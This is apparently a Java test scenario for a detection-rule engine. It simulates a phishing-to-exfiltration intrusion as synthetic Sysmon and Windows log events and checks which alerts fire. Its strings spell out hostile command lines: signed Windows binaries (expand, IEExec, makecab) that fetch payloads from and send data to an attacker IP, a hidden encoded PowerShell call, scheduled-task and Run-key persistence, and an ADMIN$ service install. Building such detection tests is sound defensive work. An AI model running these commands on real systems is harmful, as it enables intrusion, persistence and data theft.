package io.weir.cli.scenario;

import static io.weir.cli.scenario.Observation.Delivery.LATE;
import static io.weir.cli.scenario.Observation.Delivery.TWICE;

/**
 * The attack: an attachment starts a shell; signed system binaries fetch and launch a payload; it calls home, stays, and moves on to the
 * file server, from where another signed binary carries documents out.
 */
final class Intrusion {

    private static final String TEMP = "C:\\Users\\m.keller\\AppData\\Local\\Temp\\upd\\";
    private static final String ATTACKER = "93.184.216.34";
    private static final Place ATTACKER_HTTP = new Place(ATTACKER, 80);
    private static final Place ATTACKER_HTTPS = new Place(ATTACKER, 443);
    private static final Place ATTACKER_IPV6 = new Place("2606:2800:220:1:248:1893:25c8:1946", 443);
    private static final Program PAYLOAD = new Program(TEMP + "svchelper.exe", Program.NO_NAME);
    private static final Program SERVICE = new Program("C:\\Windows\\Temp\\wsvc.exe", Program.NO_NAME);

    private final Stage stage;

    Intrusion(Stage stage) {
        this.stage = stage;
    }

    /** Plays it from that time on, for six minutes and a half. */
    void begin(Cast cast, long time) {
        var shell = phish(cast.victim(), time);
        unpack(cast.victim(), shell, time + seconds(7));
        var payload = launch(cast.victim(), shell, time + seconds(19));
        callHome(cast.victim(), payload, time + seconds(95));
        stay(cast.victim(), payload, time + seconds(130));
        moveOn(cast, payload, time + seconds(310));
        carryOut(cast.fileServer(), time + seconds(321));
    }

    private Running phish(Machine victim, long time) {
        var attachment = "C:\\Users\\m.keller\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Invoice_4471.docm";
        stage.happens(Sysmon.fileCreated(victim, victim.mail(), attachment, time - seconds(2)));
        var word =
                stage.starts(victim, victim.mail(), Program.WORD, Program.WORD.with("/n \"" + attachment + "\""), time);
        return stage.starts(
                victim, word, Program.CMD, "cmd.exe /c start /min " + TEMP + "..\\upd.cmd", time + seconds(6));
    }

    /** The first signed binary fetches a cabinet from outside; the second unpacks another and talks to nobody. */
    private void unpack(Machine victim, Running shell, long time) {
        var expand = victim.start(
                Program.EXPAND, "expand.exe \\\\" + ATTACKER + "@SSL\\share\\upd.cab -F:* " + TEMP, shell, time);
        stage.happens(Sysmon.started(victim, expand, shell, time).delivered(TWICE), expand, PackRule.LOLBIN_EXECUTION);
        stage.happens(
                Sysmon.connected(victim, expand, ATTACKER_HTTPS, time + seconds(1))
                        .delivered(TWICE),
                expand,
                PackRule.LOLBIN_CONNECTION);
        stage.expects(PackRule.LOLBIN_THEN_CONNECTION, victim, expand);
        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, expand);
        stage.happens(Sysmon.fileCreated(victim, expand, PAYLOAD.path(), time + seconds(3)));
        stage.expects(PackRule.PAYLOAD_CONNECTION, victim, expand);
        stage.happens(Sysmon.ended(victim, expand, time + seconds(4)));

        var arguments = "/Y /E /L " + TEMP + " " + TEMP + "lib.cab";
        var extrac = stage.startsLolbin(
                victim, shell, Program.EXTRAC32, Program.EXTRAC32.with(arguments), time + seconds(6));
        stage.happens(Sysmon.fileCreated(victim, extrac, TEMP + "lib.dll", time + seconds(7)));
        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, extrac);
        stage.happens(Sysmon.ended(victim, extrac, time + seconds(8)));
    }

    /** The start of the third is what arrives last of all, and its payload's connection is stamped before the payload's start. */
    private Running launch(Machine victim, Running shell, long time) {
        var ieexec = victim.start(Program.IEEXEC, "IEExec.exe http://" + ATTACKER + "/upd/loader.exe", shell, time);
        stage.happens(Sysmon.started(victim, ieexec, shell, time).delivered(LATE), ieexec, PackRule.LOLBIN_EXECUTION);
        stage.expects(PackRule.PAYLOAD_BROUGHT_IN, victim, ieexec);
        stage.happens(
                Sysmon.connected(victim, ieexec, ATTACKER_HTTP, time + seconds(1)), ieexec, PackRule.LOLBIN_CONNECTION);
        stage.expects(PackRule.LOLBIN_THEN_CONNECTION, victim, ieexec);

        long begun = time + seconds(7);
        var payload = stage.starts(victim, ieexec, PAYLOAD, PAYLOAD.with("-s"), begun);
        stage.happens(Sysmon.nameAsked(victim, payload, "cdn.example.org", ATTACKER_IPV6.address(), begun));
        stage.happens(Sysmon.connected(victim, payload, ATTACKER_IPV6, begun - Timeline.SECOND * 2 / 5));
        stage.expects(PackRule.LOLBIN_CHILD_CONNECTION, victim, ieexec);
        expectsWhatThisLeadsTo(victim, ieexec);
        return payload;
    }

    /** The chain is told of the binary that connected last before it, with what comes of it: see {@link #stay} and {@link #moveOn}. */
    private void expectsWhatThisLeadsTo(Machine victim, Running ieexec) {
        stage.expects(PackRule.FOOTHOLD_PERSISTENCE, victim, ieexec);
        stage.expects(PackRule.FOOTHOLD_LATERAL_MOVEMENT, victim, ieexec);
        stage.expects(PackRule.ATTACK_CHAIN, victim, ieexec);
    }

    /** More connections of the same tree, which are the same alert. */
    private void callHome(Machine victim, Running payload, long time) {
        var script = "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAC4ALgAuACkA";
        var powershell = stage.starts(victim, payload, Program.POWERSHELL, script, time);
        stage.happens(Sysmon.connected(victim, powershell, ATTACKER_HTTPS, time + seconds(2)));
        stage.happens(WindowsLogs.scriptRun(victim, "IEX (...)", time + seconds(3)));
        stage.happens(Sysmon.connected(victim, payload, ATTACKER_HTTPS, time + seconds(60)));
        stage.happens(Sysmon.connected(victim, payload, ATTACKER_IPV6, time + seconds(180)));
    }

    private void stay(Machine victim, Running payload, long time) {
        var task = "/Create /SC MINUTE /MO 30 /TN \"Update Helper\" /TR " + PAYLOAD.path();
        var schtasks = stage.starts(victim, payload, Program.SCHTASKS, Program.SCHTASKS.with(task), time);
        stage.expects(PackRule.PERSISTENCE_SET_UP, victim, schtasks);
        stage.happens(WindowsLogs.taskCreated(victim, "\\Update Helper", PAYLOAD.path(), time + seconds(1)));

        var key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
        var reg = stage.starts(
                victim, payload, Program.REG, Program.REG.with("add " + key + " /v Helper"), time + seconds(11));
        stage.happens(Sysmon.registrySet(
                victim, reg, "HKU\\S-1-5-21" + key.substring(4) + "\\Helper", PAYLOAD.path(), time + seconds(12)));
        stage.expects(PackRule.PERSISTENCE_SET_UP, victim, reg);
    }

    private void moveOn(Cast cast, Running payload, long time) {
        var server = cast.fileServer();
        var victim = cast.victim();
        var share = "use \\\\" + server.name() + "\\ADMIN$";
        var net = stage.starts(victim, payload, Program.NET, Program.NET.with(share), time);
        stage.expects(PackRule.OTHER_HOST_REACHED, victim, net);
        stage.happens(WindowsLogs.loggedOn(server, victim.account(), 3, victim.address(), time + seconds(1)));
        stage.happens(WindowsLogs.shareOpened(
                server, victim.account(), "\\\\*\\ADMIN$", victim.address(), time + seconds(2)));
        stage.happens(WindowsLogs.serviceInstalled(server, "wsvc", SERVICE.path(), time + seconds(10)));
    }

    private void carryOut(Machine server, long time) {
        var service = stage.starts(server, server.services(), SERVICE, SERVICE.path(), time);
        var shell = stage.starts(server, service, Program.CMD, "cmd.exe", time + seconds(19));
        var makecab = stage.startsLolbin(
                server,
                shell,
                Program.MAKECAB,
                Program.MAKECAB.with("/F C:\\Windows\\Temp\\list.ddf"),
                time + seconds(23));
        stage.happens(
                Sysmon.connected(server, makecab, ATTACKER_HTTPS, time + seconds(50)),
                makecab,
                PackRule.LOLBIN_CONNECTION);
        stage.expects(PackRule.LOLBIN_THEN_CONNECTION, server, makecab);
    }

    private static long seconds(int seconds) {
        return seconds * Timeline.SECOND;
    }
}
